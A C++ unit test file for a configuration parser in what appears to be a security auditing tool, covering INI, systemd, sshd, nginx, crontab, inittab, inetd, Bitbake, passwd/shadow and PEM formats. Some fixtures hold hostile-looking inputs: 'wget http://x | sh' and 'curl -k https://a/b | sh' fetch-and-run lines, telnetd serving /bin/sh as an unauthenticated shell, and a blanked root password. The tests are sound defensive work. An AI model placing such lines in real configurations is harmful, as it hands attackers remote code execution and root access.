#include "formats/parsed.h"

namespace cpsaudit {
namespace {

SyntaxOptions options(std::string trailing, std::vector<std::string> openers = {}) {
  SyntaxOptions result;
  result.trailing_comment_marks = std::move(trailing);
  result.section_openers = std::move(openers);
  return result;
}

TEST(Ini, SectionsHoldTheirSettings) {
  const Parsed parsed(
      Syntax::kIni,
      "top = 1\r\n[global]\r\n; c\r\n  map to guest = Bad User\r\n[ data ]\r\npath=/srv\r\nflag\r\nempty =\r\n");
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.value("top"), "1");
  EXPECT_EQ(parsed.under("global>map to guest"), "Bad User");
  EXPECT_EQ(parsed.key_under("global>map to guest"), "map to guest");
  EXPECT_EQ(parsed.key_under("data"), "data");
  EXPECT_EQ(parsed.value("data>path"), "/srv");
  EXPECT_EQ(parsed.at("data>flag").style, ScalarStyle::kMissing);
  EXPECT_EQ(parsed.at("data>empty").style, ScalarStyle::kMissing);
  EXPECT_EQ(parsed.at("data>empty").value_span.begin, (Position{8, 8}));
  EXPECT_EQ(parsed.comments()[0].text, " c");
}

TEST(Ini, AUnitKeepsRepeatedKeysAndContinuedLines) {
  SyntaxOptions unit = options("");
  unit.command_keys = {"ExecStart", "ExecStartPre"};
  const Parsed parsed(Syntax::kIni,
                      "[Service]\nEnvironment=\"A=1\" \"B=x y\"\nExecStartPre=-/bin/sh -c 'wget http://x | sh'\n"
                      "ExecStart=!/usr/sbin/telnetd -l \\\n# why\n  /bin/sh -p ${PORT}\nExecStart=\n",
                      unit);
  EXPECT_EQ(parsed.value("Service>Environment"), "\"A=1\" \"B=x y\"");
  EXPECT_EQ(parsed.value("Service>ExecStart"), "!/usr/sbin/telnetd -l /bin/sh -p ${PORT}");
  ASSERT_EQ(parsed.at("Service").children.size(), 4U);
  ASSERT_EQ(parsed.commands().size(), 4U);
  EXPECT_EQ(parsed.words(0), "/bin/sh|-c|wget http://x | sh");
  EXPECT_EQ(parsed.words_under(1), "wget|http://x");
  EXPECT_EQ(parsed.pipes(), "1>2");
  EXPECT_EQ(parsed.words(3), "/usr/sbin/telnetd|-l|/bin/sh|-p|${PORT}");
  EXPECT_FALSE(parsed.commands()[3].words[4].literal);
  EXPECT_EQ(parsed.slice(parsed.commands()[3].words[0].span), "/usr/sbin/telnetd");
  EXPECT_EQ(parsed.commands()[3].context, "unit");
  EXPECT_EQ(parsed.commands()[3].inside, "ExecStart");
}

TEST(Ini, QuotesAndTrailingCommentsAreNotPartOfTheValue) {
  const Parsed parsed(Syntax::kIni,
                      "[a]\nx = \"q # v\" # c\ny = plain # c\nurl: http://h/#f\nidmap config * : backend = tdb\n",
                      options("#"));
  EXPECT_EQ(parsed.under("a>x"), "q # v");
  EXPECT_EQ(parsed.at("a>x").style, ScalarStyle::kQuoted);
  EXPECT_EQ(parsed.under("a>y"), "plain");
  EXPECT_EQ(parsed.value("a>url"), "http://h/#f");
  EXPECT_EQ(parsed.value("a>idmap config * : backend"), "tdb");
  EXPECT_EQ(parsed.comments().size(), 2U);
}

TEST(Ini, ASectionWithoutBracketIsAProblem) {
  const Parsed parsed(Syntax::kIni, "[open\nx=1\n");
  ASSERT_EQ(parsed.problems().size(), 1U);
  EXPECT_EQ(parsed.problems()[0].where, (Position{1, 1}));
}

TEST(KeyValue, EnvironmentFilesAndProperties) {
  const Parsed parsed(Syntax::kKeyValue,
                      "export A=1\nB=\"x \\\"y\\\" # z\" # c\nC='$lit'\nuser.name: "
                      "joe\nurl=jdbc:x://h:1?a=b\nlong=a\\\n  b\nD=\n! note\n");
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.under("A"), "1");
  EXPECT_EQ(parsed.value("B"), "x \"y\" # z");
  EXPECT_EQ(parsed.under("B"), "x \\\"y\\\" # z");
  EXPECT_EQ(parsed.under("C"), "$lit");
  EXPECT_EQ(parsed.value("user.name"), "joe");
  EXPECT_EQ(parsed.value("url"), "jdbc:x://h:1?a=b");
  EXPECT_EQ(parsed.value("long"), "ab");
  EXPECT_EQ(parsed.at("D").style, ScalarStyle::kMissing);
  EXPECT_EQ(parsed.comments().size(), 2U);
}

TEST(KeyValue, WithoutTrailingMarksAHashBelongsToTheValue) {
  EXPECT_EQ(Parsed(Syntax::kKeyValue, "wpa_passphrase=abc # d\n").value("wpa_passphrase"), "abc # d");
  EXPECT_EQ(Parsed(Syntax::kKeyValue, "a=abc # d\n", options("#")).under("a"), "abc");
}

TEST(KeyValue, AQuotedValueMayHaveSeveralLines) {
  const Parsed parsed(Syntax::kKeyValue, "KEY=\"-----BEGIN\nabc\n-----END\"\nB=1\nC=\"open\nD=2\n");
  EXPECT_EQ(parsed.under("KEY"), "-----BEGIN\nabc\n-----END");
  EXPECT_EQ(parsed.value("B"), "1");
  EXPECT_EQ(parsed.value("C"), "\"open");
  EXPECT_EQ(parsed.value("D"), "2");
}

TEST(KeyValue, ABlockOfALineFormatIsReadFlat) {
  const Parsed parsed(Syntax::kKeyValue, "network={\n  ssid=\"home\"\n  psk=\"12345678\"\n}\n");
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.under("psk"), "12345678");
}

TEST(KeyValue, ALineOfProseIsAProblem) {
  EXPECT_EQ(Parsed(Syntax::kKeyValue, "a=1\nthis is prose\n").problems().size(), 1U);
}

TEST(KeyValue, ABlankSeparatesWhereTheFormatSaysSo) {
  SyntaxOptions options;
  options.blank_separates = true;
  const Parsed parsed(Syntax::kKeyValue, "listen_addresses '*'\nlog_line_prefix '%u=%d '\nport = 5432\nssl=on\n",
                      options);
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.under("listen_addresses"), "*");
  EXPECT_EQ(parsed.value("log_line_prefix"), "%u=%d ");
  EXPECT_EQ(parsed.value("port"), "5432");
  EXPECT_EQ(parsed.value("ssl"), "on");
}

TEST(KeyValue, AnOpenBracketKeepsAValueGoing) {
  SyntaxOptions options;
  options.brackets_continue = true;
  const Parsed parsed(
      Syntax::kKeyValue,
      "KEY = get(\n    \"NAME\",  # why (\n    \"a)b\",\n)\nTEXT = (\n  'x y'\n)\nAPPS = [\n  {\n  'A': 1\n"
      "  }\n]\nLAST = f(1)\n",
      options);
  EXPECT_EQ(parsed.value("KEY"), "get(\n    \"NAME\",  # why (\n    \"a)b\",\n)");
  EXPECT_EQ(parsed.under("KEY"), parsed.value("KEY"));
  EXPECT_EQ(parsed.under("TEXT"), "x y");
  EXPECT_EQ(parsed.value("'A'"), "1") << "what holds braces holds settings";
  EXPECT_EQ(parsed.value("LAST"), "f(1)");
}

TEST(KeyValue, AClassLastsUntilItsIndentationEnds) {
  SyntaxOptions options;
  options.section_openers = {"class"};
  const Parsed parsed(Syntax::kKeyValue,
                      "A = 1\nclass Base(object):\n    B = 2\n# note\n\n    class Inner:\n        C = 3\n    D = 4\n"
                      "class Next:\n    E = 5\nF = 6\n",
                      options);
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.value("A"), "1");
  EXPECT_EQ(parsed.at("class").value, "Base(object)");
  EXPECT_EQ(parsed.value("class>B"), "2");
  EXPECT_EQ(parsed.value("class>class>C"), "3");
  EXPECT_EQ(parsed.value("class>D"), "4");
  EXPECT_EQ(parsed.value("[2]>E"), "5");
  EXPECT_EQ(parsed.under("[2]"), "class Next:\n    E = 5");
  EXPECT_EQ(parsed.value("F"), "6");
}

TEST(Directives, AStatementIsItsCallAsWell) {
  SyntaxOptions options;
  options.statements = true;
  const Parsed parsed(Syntax::kDirectives, "db.connect('mongodb://h/x');\nopen(\"a b\", 1)\nx = y\n'key': 1\n",
                      options);
  ASSERT_EQ(parsed.root().children.size(), 6U);
  EXPECT_EQ(parsed.under("db.connect"), "('mongodb://h/x');");
  EXPECT_EQ(parsed.key_under("db.connect"), "db.connect");
  EXPECT_EQ(parsed.under("open"), "(\"a b\", 1)");
}

TEST(Directives, ArgumentsAreWordsAndTheirText) {
  const Parsed parsed(
      Syntax::kDirectives,
      "Port 22\nAllowUsers  a \"b c\"\nBanner \"/etc/my banner\"\nX11Forwarding=yes\nUsePAM = no\nHostKey\n");
  EXPECT_EQ(parsed.under("Port"), "22");
  EXPECT_EQ(parsed.value("AllowUsers"), "a \"b c\"");
  EXPECT_EQ(parsed.under("AllowUsers"), "a \"b c\"");
  ASSERT_EQ(parsed.at("AllowUsers").words.size(), 2U);
  EXPECT_EQ(parsed.at("AllowUsers").words[1].text, "b c");
  EXPECT_EQ(parsed.slice(parsed.at("AllowUsers").words[1].span), "b c");
  EXPECT_EQ(parsed.under("Banner"), "/etc/my banner");
  EXPECT_EQ(parsed.at("Banner").style, ScalarStyle::kQuoted);
  EXPECT_EQ(parsed.under("X11Forwarding"), "yes");
  EXPECT_EQ(parsed.value("UsePAM"), "no");
  EXPECT_EQ(parsed.at("HostKey").style, ScalarStyle::kMissing);
}

TEST(Directives, AnOpenerBeginsASectionThatLastsToTheNext) {
  const Parsed parsed(
      Syntax::kDirectives,
      "PermitRootLogin no # c\nmatch User backup\n  PermitRootLogin yes\nMatch all\n#x\n  Banner none\n",
      options("#", {"Match"}));
  EXPECT_EQ(parsed.under("PermitRootLogin"), "no");
  EXPECT_EQ(parsed.at("match").value, "User backup");
  EXPECT_EQ(parsed.under("match>PermitRootLogin"), "yes");
  EXPECT_EQ(parsed.under("match"), "match User backup\n  PermitRootLogin yes");
  EXPECT_EQ(parsed.at("match").words[1].text, "backup");
  EXPECT_EQ(parsed.value("Match>Banner"), "none");
  EXPECT_EQ(parsed.comments().size(), 2U);
}

TEST(Directives, WithoutTrailingMarksAHashIsAnArgument) {
  EXPECT_EQ(Parsed(Syntax::kDirectives, "password a # b\n").value("password"), "a # b");
}

TEST(Directives, AngleBlocksNest) {
  SyntaxOptions apache;
  apache.angle_blocks = true;
  const Parsed parsed(Syntax::kDirectives,
                      "<VirtualHost *:80>\n  ServerName x\n  <Directory \"/srv/a b\">\n    Options Indexes \\\n  "
                      "FollowSymLinks\n  </Directory>\n</VirtualHost>\n<Open x>\nA 1\n",
                      apache);
  EXPECT_EQ(parsed.at("VirtualHost").value, "*:80");
  EXPECT_EQ(parsed.at("VirtualHost>Directory").value, "/srv/a b");
  EXPECT_EQ(parsed.at("VirtualHost>Directory>Options").words.size(), 2U);
  EXPECT_EQ(parsed.value("VirtualHost>Directory>Options"), "Indexes   FollowSymLinks");
  EXPECT_EQ(parsed.value("Open>A"), "1");
  ASSERT_EQ(parsed.problems().size(), 1U);
  EXPECT_EQ(parsed.problems()[0].where.line, 8U);
}

TEST(Directives, BracesAroundASectionAreTaken) {
  const Parsed parsed(Syntax::kDirectives, "service telnet\n{\n  disable = no\n  flags = REUSE A\n}\nx = 1\n",
                      options("", {"service"}));
  EXPECT_EQ(parsed.at("service").value, "telnet");
  EXPECT_EQ(parsed.under("service>disable"), "no");
  EXPECT_EQ(parsed.value("service>flags"), "REUSE A");
  EXPECT_EQ(parsed.value("x"), "1");
}

TEST(Blocks, DirectivesAndBlocksNest) {
  const Parsed parsed(Syntax::kBlocks,
                      "user nginx;\r\nhttp {\r\n  log_format m '$remote \"x\";'\r\n    'more'; # c\r\n  server {\r\n   "
                      " listen 443 ssl;\r\n"
                      "    location ~ \"^/x{2}\" { return 301 https://$host${request_uri}/; }\r\n  }\r\n}\r\n");
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.under("user"), "nginx");
  EXPECT_EQ(parsed.value("http>server>listen"), "443 ssl");
  EXPECT_EQ(parsed.at("http>server>location").value, "~ \"^/x{2}\"");
  EXPECT_EQ(parsed.at("http>server>location").words[1].text, "^/x{2}");
  EXPECT_EQ(parsed.at("http>server>location>return").words[1].text, "https://$host${request_uri}/");
  EXPECT_FALSE(parsed.at("http>server>location>return").words[1].literal);
  EXPECT_EQ(parsed.at("http>log_format").words[1].text, "$remote \"x\";");
  EXPECT_EQ(parsed.key_under("http>server"), "server");
  EXPECT_EQ(parsed.under("http>server").substr(0, 8), "server {");
  EXPECT_EQ(parsed.comments().size(), 1U);
}

TEST(Blocks, AnExactLocationKeepsItsSign) {
  const Parsed parsed(Syntax::kBlocks, "location = /x { return 204; }\n");
  EXPECT_EQ(parsed.at("location").value, "= /x");
}

TEST(Blocks, AScriptInABlockIsOneValue) {
  const Parsed parsed(Syntax::kBlocks, "location / { content_by_lua_block {\n local t = {a = \"}\"} -- }\n} }\nx y;\n");
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.at("location>content_by_lua_block").style, ScalarStyle::kBlock);
  EXPECT_EQ(parsed.value("x"), "y");
}

TEST(Blocks, OtherFormatsWithBracesAreReadToo) {
  const Parsed parsed(Syntax::kBlocks,
                      "// c\n/* d\n */\nAcquire::https::Verify-Peer \"false\";\nAcquire { Check \"no\"; };\noptions { "
                      "allow-query { any; }; port = 5; };\n");
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.under("Acquire::https::Verify-Peer"), "false");
  EXPECT_EQ(parsed.under("Acquire>Check"), "no");
  EXPECT_NE(parsed.find("options>allow-query>any"), nullptr);
  EXPECT_EQ(parsed.value("options>port"), "5");
  EXPECT_EQ(parsed.comments().size(), 2U);
}

TEST(Blocks, ExpressionsOfTemplatesAreWordsAndTheirStatementsAreNothing) {
  const Parsed parsed(
      Syntax::kBlocks,
      "user {{ nginx_user }};\nserver {\n{% if tls %}\n  listen {{ port }} ssl;\n{% endif %}\n"
      "  root /srv/{{ item.name | default('x') }}/www; {# why #}\n{{ if .Log }}\n  access_log off;\n{{ end }}\n}\n");
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.value("user"), "{{ nginx_user }}");
  EXPECT_EQ(parsed.under("user"), "{{ nginx_user }}");
  EXPECT_EQ(parsed.value("server>listen"), "{{ port }} ssl");
  EXPECT_EQ(parsed.value("server>root"), "/srv/{{ item.name | default('x') }}/www");
  EXPECT_EQ(parsed.value("server>access_log"), "off");
}

TEST(Blocks, UnbalancedBracesSayWhereAndTheRestIsKept) {
  const Parsed open(Syntax::kBlocks, "a {\n  b c;\n  d {\n    e f\n  }\n");
  EXPECT_EQ(open.value("a>b"), "c");
  EXPECT_EQ(open.value("a>d>e"), "f");
  ASSERT_EQ(open.problems().size(), 2U);
  EXPECT_EQ(open.problems()[1].where, (Position{1, 3}));
  const Parsed extra(Syntax::kBlocks, "a b;\n}\nc d;\n");
  EXPECT_EQ(extra.value("c"), "d");
  EXPECT_EQ(extra.problems().size(), 1U);
}

TEST(Uci, SectionsOptionsAndLists) {
  const Parsed parsed(Syntax::kUci,
                      "package firewall\n# c\nconfig zone 'wan'\n\toption  name   wan  # why\n\toption 'input' "
                      "\"ACCEPT\"\n\tlist network 'wan'\n"
                      "\tlist network wan6\nconfig 'rule'\n\toption x 'it'\"'s\"\n");
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.value("package"), "firewall");
  EXPECT_EQ(parsed.at("zone").value, "wan");
  EXPECT_EQ(parsed.slice(parsed.at("zone").words[0].span), "wan");
  EXPECT_EQ(parsed.under("zone>name"), "wan");
  EXPECT_EQ(parsed.key_under("zone>input"), "input");
  EXPECT_EQ(parsed.under("zone>input"), "ACCEPT");
  ASSERT_EQ(parsed.at("zone").children.size(), 4U);
  EXPECT_EQ(parsed.at("zone").children[3].value, "wan6");
  EXPECT_EQ(parsed.value("rule>x"), "it's");
  EXPECT_EQ(parsed.under("rule>x"), "it'\"'s");
  EXPECT_EQ(parsed.comments().size(), 2U);
}

TEST(Uci, AQuoteMayReachOverLinesButNotOverAStatement) {
  const Parsed parsed(Syntax::kUci, "config a\n\toption t 'one\ntwo'\n\toption u 'open\n\toption v 'x'\n");
  EXPECT_EQ(parsed.value("a>t"), "one\ntwo");
  EXPECT_EQ(parsed.value("a>u"), "open");
  EXPECT_EQ(parsed.value("a>v"), "x");
  ASSERT_EQ(parsed.problems().size(), 1U);
  EXPECT_EQ(parsed.problems()[0].where.line, 4U);
}

TEST(Uci, BrokenLinesAreProblemsAndTheRestCounts) {
  const Parsed parsed(Syntax::kUci, "config\nconfig a\n\toption\n\tnonsense x\n\toption k\n\toption z a b\n");
  EXPECT_EQ(parsed.problems().size(), 4U);
  EXPECT_EQ(parsed.at("a>k").style, ScalarStyle::kMissing);
  EXPECT_EQ(parsed.value("a>z"), "a");
}

TEST(Kconfig, EveryWayToSayYesAndNo) {
  const Parsed parsed(Syntax::kKconfig,
                      "#\n# Security\n#\nCONFIG_A=y\n# CONFIG_B is not set\nBR2_C=\"a \\\"b\\\" # c\" # d\nCONFIG_D=n  "
                      "# why\nCONFIG_E=\nSB_CONFIG_F=0x10\r\n");
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.under("CONFIG_A"), "y");
  EXPECT_EQ(parsed.value("CONFIG_B"), "n");
  EXPECT_EQ(parsed.at("CONFIG_B").style, ScalarStyle::kUnset);
  EXPECT_EQ(parsed.key_under("CONFIG_B"), "CONFIG_B");
  EXPECT_EQ(parsed.under("CONFIG_B"), "is not set");
  EXPECT_EQ(parsed.value("BR2_C"), "a \"b\" # c");
  EXPECT_EQ(parsed.under("BR2_C"), "a \\\"b\\\" # c");
  EXPECT_EQ(parsed.under("CONFIG_D"), "n");
  EXPECT_EQ(parsed.at("CONFIG_E").style, ScalarStyle::kMissing);
  EXPECT_EQ(parsed.under("SB_CONFIG_F"), "0x10");
  EXPECT_EQ(parsed.comments().size(), 5U);
}

TEST(Kconfig, NamesOfPackagesMakeSymbols) {
  const Parsed parsed(Syntax::kKconfig,
                      "CONFIG_PACKAGE_libstdc++=y\n# CONFIG_PACKAGE_kmod-usb2 is not set\nBR2_PKG_a.b=\"x\"\n");
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.value("CONFIG_PACKAGE_libstdc++"), "y");
  EXPECT_EQ(parsed.value("CONFIG_PACKAGE_kmod-usb2"), "n");
  EXPECT_EQ(parsed.value("BR2_PKG_a.b"), "x");
}

TEST(Kconfig, OtherLinesAreProblems) {
  EXPECT_EQ(Parsed(Syntax::kKconfig, "CONFIG_A=y\nconfig FOO\n").problems().size(), 1U);
  EXPECT_EQ(Parsed(Syntax::kKconfig, "# this is not set in stone\n").root().children.size(), 0U);
}

TEST(Passwd, FieldsHaveTheirNames) {
  const Parsed parsed(Syntax::kPasswd, "# c\nroot::0:0:root:/root:/bin/ash\ndaemon:*:1:1:daemon:/var:/bin/false  \n");
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.key_under("root"), "root");
  EXPECT_EQ(parsed.value("root>password"), "");
  EXPECT_EQ(parsed.at("root>password").value_span, (Span{{2, 6}, {2, 6}}));
  EXPECT_EQ(parsed.key_under("root>password"), "root");
  EXPECT_EQ(parsed.under("root>shell"), "/bin/ash");
  EXPECT_EQ(parsed.under("daemon>shell"), "/bin/false");
}

TEST(Passwd, AGroupFileAndWrongCountsAreTolerated) {
  const Parsed parsed(Syntax::kPasswd, "wheel:x:10:a,b\nbroken:x:1\n+::::::\nprose\n");
  EXPECT_EQ(parsed.value("wheel>members"), "a,b");
  EXPECT_EQ(parsed.value("broken>password"), "x");
  EXPECT_EQ(parsed.problems().size(), 2U);
}

TEST(Shadow, FieldsHaveTheirNames) {
  const Parsed parsed(Syntax::kShadow, "root:$1$ab$cd:19000:0:99999:7:::\r\nuser:!:::::::\r\n");
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.under("root>password"), "$1$ab$cd");
  EXPECT_EQ(parsed.value("root>max"), "99999");
  EXPECT_EQ(parsed.value("user>password"), "!");
}

TEST(Shadow, ANameAndAHashAreAnEntryOfAPasswordFile) {
  const Parsed parsed(Syntax::kShadow, "admin:$apr1$ab$cd\nuser:Ab12cd34ef56g\nempty:\n");
  EXPECT_EQ(parsed.problems().size(), 1U) << "nothing stands behind the last name";
  EXPECT_EQ(parsed.under("user>password"), "Ab12cd34ef56g");
  EXPECT_EQ(Parsed(Syntax::kPasswd, "admin:x\n").problems().size(), 1U);
}

TEST(Inittab, AProcessIsACommand) {
  const Parsed parsed(Syntax::kInittab,
                      "# c\n::sysinit:/etc/init.d/rcS S boot\nttyS0::askfirst:-/bin/ash "
                      "--login\nt1:2345:respawn:/usr/sbin/telnetd -F -l /bin/sh > /dev/null 2>&1\nbroken\n");
  EXPECT_EQ(parsed.value("ttyS0>action"), "askfirst");
  EXPECT_EQ(parsed.value("ttyS0>process"), "-/bin/ash --login");
  EXPECT_EQ(parsed.value("t1>runlevels"), "2345");
  ASSERT_EQ(parsed.commands().size(), 3U);
  EXPECT_EQ(parsed.words_under(1), "/bin/ash|--login");
  EXPECT_EQ(parsed.commands()[1].context, "inittab");
  EXPECT_EQ(parsed.commands()[1].inside, "ttyS0");
  EXPECT_EQ(parsed.words(2), "/usr/sbin/telnetd|-F|-l|/bin/sh");
  ASSERT_EQ(parsed.problems().size(), 1U);
  EXPECT_EQ(parsed.problems()[0].where.line, 5U);
}

TEST(Crontab, TheCommandBehindTheScheduleIsRunByAShell) {
  const Parsed parsed(Syntax::kCrontab,
                      "# m h\nMAILTO=\"\"\nSHELL = /bin/sh\n*/5 2 * * 1-5  curl -k https://a/b | sh # now\n"
                      "@reboot /usr/sbin/telnetd -l /bin/sh\n5 4 * *\n");
  EXPECT_EQ(parsed.value("MAILTO"), "");
  EXPECT_EQ(parsed.under("SHELL"), "/bin/sh");
  EXPECT_EQ(parsed.under("[2]>schedule"), "*/5 2 * * 1-5");
  EXPECT_EQ(parsed.under("[3]>command"), "/usr/sbin/telnetd -l /bin/sh");
  ASSERT_EQ(parsed.commands().size(), 3U);
  EXPECT_EQ(parsed.words_under(0), "curl|-k|https://a/b");
  EXPECT_EQ(parsed.pipes(), "0>1");
  EXPECT_EQ(parsed.words(2), "/usr/sbin/telnetd|-l|/bin/sh");
  EXPECT_EQ(parsed.commands()[2].context, "cron");
  ASSERT_EQ(parsed.problems().size(), 1U);
  EXPECT_EQ(parsed.problems()[0].where.line, 6U);
}

TEST(Crontab, TheSystemsOwnNamesAUser) {
  SyntaxOptions options;
  options.command_after = 1;
  const Parsed parsed(Syntax::kCrontab, "17 * * * * root cd / && run-parts /etc/cron.hourly\n@daily www-data sync\n",
                      options);
  EXPECT_EQ(parsed.under("[0]>user"), "root");
  EXPECT_EQ(parsed.words(1), "run-parts|/etc/cron.hourly");
  EXPECT_EQ(parsed.words(2), "sync");
}

TEST(Directives, ALineOfInetdEndsInACommand) {
  SyntaxOptions options;
  options.command_after = 5;
  options.command_context = "inetd";
  const Parsed parsed(Syntax::kDirectives,
                      "telnet stream tcp nowait root /usr/sbin/telnetd telnetd -i\n"
                      "shell stream tcp nowait root /usr/sbin/tcpd in.rshd\ndaytime stream tcp nowait root internal\n",
                      options);
  ASSERT_EQ(parsed.commands().size(), 3U);
  EXPECT_EQ(parsed.words_under(0), "/usr/sbin/telnetd|-i");
  EXPECT_EQ(parsed.words(1), "/usr/sbin/tcpd|in.rshd");
  EXPECT_EQ(parsed.words(2), "internal");
  EXPECT_EQ(parsed.commands()[0].context, "inetd");
}

TEST(Bitbake, ValuesGoOnBehindABackslashAndOperatorsAreNoPartOfTheKey) {
  const Parsed parsed(Syntax::kBitbake,
                      "# c\nEXTRA_IMAGE_FEATURES ?= \"debug-tweaks\"\nIMAGE_FEATURES:append:qemu = ' ssh \\\n  x'\n"
                      "A += \"say \"b\" c\"\nexport B = \"1\"\nUSER_root[password] = \"p\"\nC =. \"d\"\nD ??= \"e\"\n");
  EXPECT_TRUE(parsed.problems().empty());
  EXPECT_EQ(parsed.under("EXTRA_IMAGE_FEATURES"), "debug-tweaks");
  EXPECT_EQ(parsed.value("IMAGE_FEATURES:append:qemu"), " ssh \\\n  x");
  EXPECT_EQ(parsed.under("A"), "say \"b\" c");
  EXPECT_EQ(parsed.value("B"), "1");
  EXPECT_EQ(parsed.value("USER_root[password]"), "p");
  EXPECT_EQ(parsed.value("C"), "d");
  EXPECT_EQ(parsed.key_under("D"), "D");
}

TEST(Bitbake, FunctionsInShellAreCommandsAndThoseInPythonAreNot) {
  const Parsed parsed(
      Syntax::kBitbake,
      "inherit core-image extrausers\ndo_install:append () {\n    passwd -d root\n}\n"
      "python do_x() {\n    a = \"1\"\n}\ndef f(d):\n    b = \"2\"\n\n    return b\nC = \"3\"\nwhat is this\n");
  EXPECT_EQ(parsed.value("inherit"), "core-image extrausers");
  ASSERT_EQ(parsed.commands().size(), 1U);
  EXPECT_EQ(parsed.words_under(0), "passwd|-d|root");
  EXPECT_EQ(parsed.commands()[0].inside, "do_install:append");
  EXPECT_EQ(parsed.root().children.size(), 2U);
  EXPECT_EQ(parsed.value("C"), "3");
  ASSERT_EQ(parsed.problems().size(), 1U);
}

TEST(Bitbake, AValueCanBeACommandLine) {
  SyntaxOptions options;
  options.command_keys = {"EXTRA_USERS_PARAMS*"};
  options.command_context = "shell";
  const Parsed parsed(Syntax::kBitbake,
                      "EXTRA_USERS_PARAMS:append = \" \\\n    usermod -p 'x' root; \\\n    useradd -P y op; \\\n\"\n",
                      options);
  ASSERT_EQ(parsed.commands().size(), 2U);
  EXPECT_EQ(parsed.words_under(1), "useradd|-P|y|op");
}

TEST(Pem, BlocksAreNamedAndTheirBytesAreNotKept) {
  const Parsed parsed(
      Syntax::kPem,
      "Bag\n-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\r\n"
      "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES\n\nMIIB\n-----END RSA PRIVATE KEY-----\n"
      "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIIB\n-----END ENCRYPTED PRIVATE KEY-----\n-----BEGIN "
      "CERTIFICATE-----\nMIIB\n");
  ASSERT_EQ(parsed.root().children.size(), 4U);
  const Node& first = parsed.root().children[0];
  EXPECT_EQ(first.key, "RSA PRIVATE KEY");
  EXPECT_EQ(first.value, "");
  EXPECT_EQ(first.tag, "");
  EXPECT_EQ(parsed.slice(first.value_span), "-----BEGIN RSA PRIVATE KEY-----");
  EXPECT_EQ(parsed.slice(first.key_span), "RSA PRIVATE KEY");
  EXPECT_EQ(parsed.root().children[1].tag, "encrypted");
  EXPECT_EQ(parsed.root().children[2].tag, "encrypted");
  EXPECT_EQ(parsed.root().children[3].key, "CERTIFICATE");
  ASSERT_EQ(parsed.problems().size(), 1U);
  EXPECT_EQ(parsed.problems()[0].where.line, 14U);
}

TEST(Pem, AnOpensshKeySaysInItsBodyWhetherItIsEncrypted) {
  // "openssh-key-v1\0" and then the cipher: "none" and "aes256-ctr".
  const Parsed open(Syntax::kPem,
                    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ==\n-----END "
                    "OPENSSH PRIVATE KEY-----\n");
  EXPECT_EQ(open.root().children[0].tag, "");
  const Parsed locked(Syntax::kPem,
                      "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAACmFlczI1Ni1jdHIAAAA=\n-----END "
                      "OPENSSH PRIVATE KEY-----\n");
  EXPECT_EQ(locked.root().children[0].tag, "encrypted");
}

TEST(Pem, APuttyKeyIsAKeyToo) {
  const Parsed parsed(Syntax::kPem, "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nPrivate-Lines: 1\n");
  EXPECT_EQ(parsed.root().children[0].key, "PUTTY PRIVATE KEY");
  EXPECT_EQ(parsed.root().children[0].tag, "");
}

TEST(KeyValue, AFloodOfBrokenLinesEndsInALineThatSaysSo) {
  std::string text;
  for (int i = 0; i < 100; ++i) text += "this is prose\n";
  const Parsed parsed(Syntax::kKeyValue, text);
  ASSERT_EQ(parsed.problems().size(), 21U);
  EXPECT_EQ(parsed.problems().back().message, "more places follow that make no sense; they are not listed");
  EXPECT_EQ(parsed.problems().back().where.line, 21U);
}

}  // namespace
}  // namespace cpsaudit
